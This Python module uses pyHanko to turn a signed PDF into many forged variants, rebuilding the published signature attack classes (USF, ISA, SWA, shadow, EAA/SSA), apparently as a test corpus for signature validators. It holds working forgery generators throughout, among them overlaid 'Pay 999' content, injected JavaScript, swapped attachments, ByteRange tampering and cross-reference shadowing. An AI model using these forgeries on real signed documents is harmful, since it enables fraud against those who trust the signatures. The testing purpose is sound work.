"""What a forger without the signer's key makes of a signed PDF: the published classes, and more.

The classes are those of pdf-insecurity.org (USF, ISA, SWA: "1 Trillion Dollar Refund", 2019; shadow attacks, 2021; EAA and SSA, 2021),
rebuilt here from their descriptions, since none of the published files can be had offline. Each takes a signed file and gives a forged one.
"""

import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Writer = IncrementalPdfFileWriter
Attack = Callable[[bytes], bytes]
N = generic.NameObject
_RANGE = re.compile(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")


def D(**entries: object) -> generic.DictionaryObject:  # noqa: N802 - a dictionary literal
    return generic.DictionaryObject({N(f"/{key}"): value for key, value in entries.items()})


def numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def stream(data: bytes, **entries: object) -> generic.StreamObject:
    return generic.StreamObject(D(**entries), stream_data=data)


def string(text: str) -> generic.TextStringObject:
    return generic.pdf_string(text)


def page(w: Writer) -> generic.DictionaryObject:
    return w.find_page_for_modification(0)[0].get_object()


def touched(w: Writer) -> generic.DictionaryObject:
    reference = w.find_page_for_modification(0)[0]
    w.mark_update(reference.reference)
    return reference.get_object()


# --- what an appended revision may change -------------------------------------------------------------------------------------


def overlay(w: Writer) -> None:
    w.add_stream_to_page(0, w.add_object(stream(b"1 g 0 0 600 900 re f BT /F1 30 Tf 72 700 Td (Pay 999) Tj ET")))


def replace_contents(w: Writer) -> None:
    touched(w)["/Contents"] = w.add_object(stream(b"0 g 10 10 500 500 re f"))


def rewrite_contents(w: Writer) -> None:
    """Shadow replace: the object itself becomes another."""
    found = page(w).raw_get("/Contents")
    where = found if isinstance(found, generic.IndirectObject) else w.add_object(found)
    w.objects[(where.generation, where.idnum)] = stream(b"0 g 10 10 500 500 re f")


def annotate(kind: str) -> Callable[[Writer], None]:
    def change(w: Writer) -> None:
        looks = w.add_object(stream(b"1 0 0 rg 0 0 300 300 re f", Type=N("/XObject"), Subtype=N("/Form"), BBox=numbers(0, 0, 300, 300)))
        note = D(Type=N("/Annot"), Subtype=N(f"/{kind}"), Rect=numbers(50, 500, 350, 800), F=generic.NumberObject(4), Contents=string("x"))
        note["/AP"] = D(N=looks)
        w.register_annotation(w.find_page_for_modification(0)[0], w.add_object(note))

    change.__name__ = f"annotate_{kind}"
    return change


def hide_annotations(w: Writer) -> None:
    touched(w)["/Annots"] = generic.ArrayObject()


def hide_layers(w: Writer) -> None:
    groups = w.root["/OCProperties"]["/OCGs"] if "/OCProperties" in w.root else generic.ArrayObject()
    off = generic.ArrayObject(groups.raw_get(index) for index in range(len(groups)))
    w.root["/OCProperties"] = D(OCGs=off, D=D(OFF=off, BaseState=N("/OFF")))
    w.update_root()


def swap_form(w: Writer) -> None:
    resources = touched(w)
    own = D(X1=w.add_object(stream(b"1 0 0 rg 0 0 99 99 re f", Type=N("/XObject"), Subtype=N("/Form"), BBox=numbers(0, 0, 99, 99))))
    resources["/Resources"] = D(XObject=own)


def swap_font(w: Writer) -> None:
    font = D(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/ZapfDingbats"))
    touched(w)["/Resources"] = D(Font=D(F1=w.add_object(font)))


def rotate(w: Writer) -> None:
    touched(w)["/Rotate"] = generic.NumberObject(180)


def crop(w: Writer) -> None:
    touched(w)["/CropBox"] = numbers(0, 0, 100, 100)


def add_page(w: Writer) -> None:
    leaf = D(Type=N("/Page"), MediaBox=numbers(0, 0, 300, 300), Contents=w.add_object(stream(b"0 0 300 300 re f")), Resources=D())
    kids = w.root["/Pages"]
    leaf["/Parent"] = w.root.raw_get("/Pages")
    kids["/Kids"].insert(0, w.add_object(leaf))
    kids["/Count"] = generic.NumberObject(int(kids["/Count"]) + 1)
    w.update_container(kids)


def reverse_pages(w: Writer) -> None:
    kids = w.root["/Pages"]
    kids["/Kids"] = generic.ArrayObject(reversed([kids["/Kids"].raw_get(index) for index in range(len(kids["/Kids"]))]))
    w.update_container(kids)


def drop_last_page(w: Writer) -> None:
    kids = w.root["/Pages"]
    del kids["/Kids"][-1]
    kids["/Count"] = generic.NumberObject(len(kids["/Kids"]))
    w.update_container(kids)


def other_pages(w: Writer) -> None:
    leaf = w.add_object(D(Type=N("/Page"), MediaBox=numbers(0, 0, 300, 300), Resources=D()))
    w.root["/Pages"] = w.add_object(D(Type=N("/Pages"), Kids=generic.ArrayObject([leaf]), Count=generic.NumberObject(1)))
    w.update_root()


def script(kind: str) -> Callable[[Writer], None]:
    def change(w: Writer) -> None:
        action = w.add_object(D(S=N("/JavaScript"), JS=string("app.alert(1)")))
        if kind == "OpenAction":
            w.root["/OpenAction"] = action
        elif kind == "AA":
            w.root["/AA"] = D(WC=action)
        else:
            w.root["/Names"] = D(JavaScript=D(Names=generic.ArrayObject([string("a"), action])))
        w.update_root()

    change.__name__ = f"script_{kind}"
    return change


def swap_attachment(w: Writer) -> None:
    file = w.add_object(stream(b"evil", Type=N("/EmbeddedFile")))
    specification = w.add_object(D(Type=N("/Filespec"), F=string("metadata.json"), UF=string("metadata.json"), EF=D(F=file)))
    w.root["/AF"] = generic.ArrayObject([specification])
    w.root["/Names"] = D(EmbeddedFiles=D(Names=generic.ArrayObject([string("metadata.json"), specification])))
    w.update_root()


def metadata(w: Writer) -> None:
    w.root["/Metadata"] = w.add_object(stream(b"<x/>", Type=N("/Metadata"), Subtype=N("/XML")))
    w.update_root()


def information(w: Writer) -> None:
    w.set_info(D(Title=string("another title")))


def language(w: Writer) -> None:
    w.root["/Lang"] = string("xx")
    w.update_root()


def preferences(w: Writer) -> None:
    w.root["/ViewerPreferences"] = D(Direction=N("/R2L"), HideToolbar=generic.BooleanObject(True))
    w.update_root()


def unlock(w: Writer) -> None:
    if "/Perms" in w.root:
        del w.root["/Perms"]
    w.update_root()


def certify_anew(w: Writer) -> None:
    w.root["/Perms"] = D(DocMDP=w.add_object(D(Type=N("/Sig"))))
    w.update_root()


def field(w: Writer) -> generic.DictionaryObject:
    fields = w.root["/AcroForm"]["/Fields"]
    return next(one.get_object() for one in fields if one.get_object().get("/FT") == "/Sig")


def swap_appearance(w: Writer) -> None:
    own = field(w)
    own["/AP"] = D(N=w.add_object(stream(b"1 0 0 rg 0 0 99 99 re f", Type=N("/XObject"), Subtype=N("/Form"), BBox=numbers(0, 0, 99, 99))))
    w.update_container(own)


def move_appearance(w: Writer) -> None:
    own = field(w)
    own["/Rect"] = numbers(0, 0, 595, 842)
    w.update_container(own)


def hide_field(w: Writer) -> None:
    own = field(w)
    own["/F"] = generic.NumberObject(2)
    w.update_container(own)


def downgrade(w: Writer) -> None:
    """The same signature, its dictionary written again with another permission."""
    own = field(w)
    again = generic.DictionaryObject(own["/V"])
    again["/Reference"] = generic.ArrayObject(
        [D(Type=N("/SigRef"), TransformMethod=N("/DocMDP"), TransformParams=D(P=generic.NumberObject(3), V=N("/1.2")))]
    )
    own["/V"] = w.add_object(again)
    w.update_container(own)


def other_value(w: Writer) -> None:
    own = field(w)
    again = generic.DictionaryObject(own["/V"])
    again["/Name"] = string("Somebody else")
    again["/M"] = string("D:20200101000000Z")
    own["/V"] = w.add_object(again)
    w.update_container(own)


def drop_value(w: Writer) -> None:
    own = field(w)
    del own["/V"]
    w.update_container(own)


def other_form(w: Writer) -> None:
    w.root["/AcroForm"] = D(Fields=generic.ArrayObject(), NeedAppearances=generic.BooleanObject(True))
    w.update_root()


def second_field(w: Writer) -> None:
    form = w.root["/AcroForm"]
    own = field(w)
    again = D(FT=N("/Sig"), T=string("Twin"), Type=N("/Annot"), Subtype=N("/Widget"), Rect=numbers(0, 0, 200, 200), V=own.raw_get("/V"))
    form["/Fields"].append(w.add_object(again))
    w.update_container(form["/Fields"])


def fill_text(w: Writer) -> None:
    """Form filling, which an approval signature without DocMDP does not rule out by itself."""
    form = w.root["/AcroForm"]
    for one in form["/Fields"]:
        if one.get_object().get("/FT") == "/Tx":
            one.get_object()["/V"] = string("999999")
            w.mark_update(one.reference)
            return
    form["/Fields"].append(w.add_object(D(FT=N("/Tx"), T=string("Amount"), V=string("999999"))))
    w.update_container(form["/Fields"])


def smuggle(w: Writer) -> None:
    """Something else under the name of validation data."""
    script_stream = w.add_object(stream(b"app.alert(1)"))
    w.root["/DSS"] = D(Certs=generic.ArrayObject([script_stream]), VRI=D(EVIL=D(TU=string("x"))), Extra=script_stream)
    w.update_root()


def empty_store(w: Writer) -> None:
    w.root["/DSS"] = D()
    w.update_root()


def extensions(w: Writer) -> None:
    w.root["/Extensions"] = D(EVIL=D(BaseVersion=N("/2.0"), ExtensionLevel=generic.NumberObject(9)))
    w.update_root()


def destinations(w: Writer) -> None:
    w.root["/Dests"] = D(a=generic.ArrayObject([w.find_page_for_modification(0)[0], N("/Fit")]))
    w.update_root()


def nothing_at_all(w: Writer) -> None:
    w.add_object(stream(b"unreferenced"))


UPDATES: tuple[Callable[[Writer], None], ...] = (
    overlay, replace_contents, rewrite_contents, annotate("FreeText"), annotate("Stamp"), annotate("Square"), annotate("Redact"),
    hide_annotations, hide_layers, swap_form, swap_font, rotate, crop, add_page, reverse_pages, drop_last_page, other_pages,
    script("OpenAction"), script("AA"), script("Names"), swap_attachment, metadata, information, language, preferences, unlock,
    certify_anew, swap_appearance, move_appearance, hide_field, downgrade, other_value, drop_value, other_form, second_field,
    fill_text, smuggle, empty_store, extensions, destinations, nothing_at_all,
)  # fmt: skip


def updated(pdf: bytes, change: Callable[[Writer], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- how the end of an appended revision may look (ISA) -----------------------------------------------------------------------


def whole(pdf: bytes, signed: bytes) -> bytes:
    return pdf


def no_eof(pdf: bytes, signed: bytes) -> bytes:
    return pdf[: pdf.rindex(b"%%EOF")]


def no_startxref(pdf: bytes, signed: bytes) -> bytes:
    return pdf[: pdf.rindex(b"startxref")]


def only_objects(pdf: bytes, signed: bytes) -> bytes:
    at = pdf.rfind(b"\nxref", len(signed))
    return pdf[: at + 1] if at > 0 else pdf[: pdf.rindex(b"startxref")]


def old_table_again(pdf: bytes, signed: bytes) -> bytes:
    """The objects of the new revision, then the signed file's own end once more."""
    return only_objects(pdf, signed) + signed[signed.rindex(b"startxref") :]


ENDS = (whole, no_eof, no_startxref, only_objects, old_table_again)


# --- the signature itself (USF), the range (SWA) ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Hole:
    """The last signature's place. ``at`` is where ``/ByteRange`` begins, ``room`` what may be written over."""

    at: int
    room: int
    start: int
    end: int
    rest: int


def hole(pdf: bytes) -> Hole:
    found = list(_RANGE.finditer(pdf))[-1]
    return Hole(found.start(), len(found[0]), int(found[1]), int(found[2]), int(found[3]))


def ranged(text: str) -> Attack:
    """Another ``/ByteRange`` in the room of the old one; ``{a}``, ``{b}``, ``{c}`` are its numbers."""

    def attack(pdf: bytes) -> bytes:
        gap = hole(pdf)
        body = text.format(a=gap.start, b=gap.end, c=gap.rest, n=len(pdf), b20=gap.end + 20, c20=gap.rest - 20, a9=gap.start - 9).encode()
        if len(body) > gap.room:
            body = body.replace(b" ", b"")[: gap.room]
        return pdf[: gap.at] + body.ljust(gap.room) + pdf[gap.at + gap.room :]

    return attack


def contents(change: Callable[[bytes], bytes]) -> Attack:
    """Other octets where ``/Contents`` stand, as many as before."""

    def attack(pdf: bytes) -> bytes:
        gap = hole(pdf)
        size = gap.end - gap.start
        return pdf[: gap.start] + change(pdf[gap.start : gap.end])[:size].ljust(size) + pdf[gap.end :]

    return attack


def spelled(before: bytes, after: bytes) -> Attack:
    def attack(pdf: bytes) -> bytes:
        at = pdf.rfind(before)
        return pdf + b"%" if at < 0 else pdf[:at] + after.ljust(len(before))[: len(before)] + pdf[at + len(before) :]

    return attack


def moved(pdf: bytes) -> bytes:
    """Classic wrapping: the second part is moved behind a forged one, the range follows it."""
    gap = hole(pdf)
    evil = b"\n99 0 obj\n<</Type/Catalog/Evil true>>\nendobj\n"
    text = f"/ByteRange[0 {gap.start} {gap.end + len(evil)} {gap.rest}]".encode().ljust(gap.room)[: gap.room]
    return pdf[: gap.at] + text + pdf[gap.at + gap.room : gap.end] + evil + pdf[gap.end :]


def wrapped_again(pdf: bytes) -> bytes:
    """The whole signed file within a larger one whose own end is a forged revision."""
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + pdf


def copied_tail(pdf: bytes) -> bytes:
    return pdf + pdf[hole(pdf).end :]


def doubled(pdf: bytes) -> bytes:
    return pdf + pdf


SIGNATURES: dict[str, Attack] = {
    "usf: no ByteRange": ranged(""),
    "usf: null ByteRange": ranged("/ByteRange null"),
    "usf: empty ByteRange": ranged("/ByteRange[]"),
    "usf: ByteRange of zeros": ranged("/ByteRange[0 0 0 0]"),
    "usf: negative ByteRange": ranged("/ByteRange[0 -1 -1 -1]"),
    "usf: ByteRange of one": ranged("/ByteRange[0 {a}]"),
    "usf: ByteRange a name": ranged("/ByteRange/None"),
    "usf: ByteRange of reals": ranged("/ByteRange[0 {a}. {b} {c}]"),
    "usf: ByteRange too long": ranged("/ByteRange[0 {a} {b} {n}]"),
    "usf: ByteRange huge": ranged("/ByteRange[0 {a} {b} 9999999999]"),
    "swa: short at the end": ranged("/ByteRange[0 {a} {b} {c20}]"),
    "swa: gap widened behind": ranged("/ByteRange[0 {a} {b20} {c20}]"),
    "swa: gap widened before": ranged("/ByteRange[0 {a9} {b} {c}]"),
    "swa: overlapping": ranged("/ByteRange[0 {b} {a} {n}]"),
    "swa: begins late": ranged("/ByteRange[9 {a9} {b} {c}]"),
    "swa: twice the first": ranged("/ByteRange[0 {a} 0 {a}]"),
    "swa: moved": moved,
    "swa: wrapped again": wrapped_again,
    "swa: copied tail": copied_tail,
    "swa: doubled": doubled,
    "usf: empty Contents": contents(lambda old: b"<>"),
    "usf: Contents of zeros": contents(lambda old: b"<" + b"0" * (len(old) - 2) + b">"),
    "usf: Contents null": contents(lambda old: b" null"),
    "usf: Contents a number": contents(lambda old: b" 0"),
    "usf: Contents an empty string": contents(lambda old: b"()"),
    "usf: Contents of one octet": contents(lambda old: b"<30>"),
    "usf: Contents cut": contents(lambda old: old[:200] + b">"),
    "hex: other case": contents(lambda old: old.swapcase()),
    "hex: some in other case": contents(lambda old: old[:60].swapcase() + old[60:]),
    "hex: blank within": contents(lambda old: old[:41] + b" " + old[41:-2] + b">"),
    "hex: line within": contents(lambda old: old[:-2] + b"\n>"),
    "hex: padding not zero": contents(lambda old: old[:-3] + b"01>"),
    "hex: two values": contents(lambda old: old[: len(old) // 2] + b"><" + old[len(old) // 2 + 2 :]),
    "usf: Contents under another name": spelled(b"/Contents<", b"/Contentz<"),
    "usf: ByteRange under another name": spelled(b"/ByteRange", b"/ByteRangf"),
    "usf: other SubFilter": spelled(b"/SubFilter", b"/SubFiltes"),
    "usf: other type": spelled(b"/FT /Sig", b"/FT /Btn"),
    "usf: other type, close": spelled(b"/FT/Sig", b"/FT/Btn"),
    "usf: no form": spelled(b"/AcroForm", b"/AcroFurm"),
    "one octet of text": spelled(b"/Pages", b"/Pagez"),
    "trailing: line": lambda pdf: pdf + b"\n",
    "trailing: blanks": lambda pdf: pdf + b" " * 3000,
    "trailing: comment": lambda pdf: pdf + b"%hidden\n",
    "trailing: zeros": lambda pdf: pdf + bytes(4096),
    "trailing: another end": lambda pdf: pdf + b"startxref\n0\n%%EOF\n",
    "trailing: object": lambda pdf: pdf + b"9 0 obj\n<<>>\nendobj\n",
    "xref: its own end again": lambda pdf: pdf + pdf[pdf.rindex(b"startxref") :],
    "xref: forged table": lambda pdf: pdf + b"xref\n0 0\ntrailer\n<</Size 1/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(pdf),
    "xref: circle": lambda pdf: pdf + b"xref\n0 0\ntrailer\n<</Size 1/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(pdf), len(pdf)),
    "xref: hybrid": lambda pdf: (
        pdf + b"xref\n0 0\ntrailer\n<</Size 99/Root 1 0 R/XRefStm 15/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (_start(pdf), len(pdf))
    ),
    "xref: object stream shadows": lambda pdf: pdf + _shadow(pdf),
    "truncated: the last line": lambda pdf: pdf[:-7],
    "truncated: behind the gap": lambda pdf: pdf[: hole(pdf).end],
    "truncated: within the gap": lambda pdf: pdf[: hole(pdf).start + 100],
}


def _start(pdf: bytes) -> bytes:
    return pdf[pdf.rindex(b"startxref") :].split()[1]


def _shadow(pdf: bytes) -> bytes:
    """An object stream with another catalogue, and a cross-reference stream that leads into it."""
    body = b"1 0 <</Type/Catalog/Pages 2 0 R>>"
    at = len(pdf)
    packed = b"9000 0 obj\n<</Type/ObjStm/N 1/First 4/Length %d>>stream\n%b\nendstream\nendobj\n" % (len(body), body)
    rows = b"\2" + (9000).to_bytes(4) + b"\0"
    return packed + (
        b"9001 0 obj\n<</Type/XRef/W[1 4 1]/Index[1 1]/Size 9002/Root 1 0 R/Prev %b/Length 6>>stream\n%b\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (_start(pdf), rows, at + len(packed))
    )


def appended(base: str, pdf: bytes, picked: Callable[[int], bool]) -> Iterator[tuple[str, bytes]]:
    """Every change under every kind of end."""
    cases = [(change, end) for change in UPDATES for end in ENDS]
    for number, (change, end) in enumerate(cases):
        if picked(number):
            yield f"{base}: {change.__name__}, {end.__name__}", end(updated(pdf, change), pdf)


def altered(base: str, pdf: bytes, picked: Callable[[int], bool]) -> Iterator[tuple[str, bytes]]:
    """Every attack on the signature itself."""
    for number, (name, attack) in enumerate(SIGNATURES.items()):
        if picked(number):
            yield f"{base}: {name}", attack(pdf)
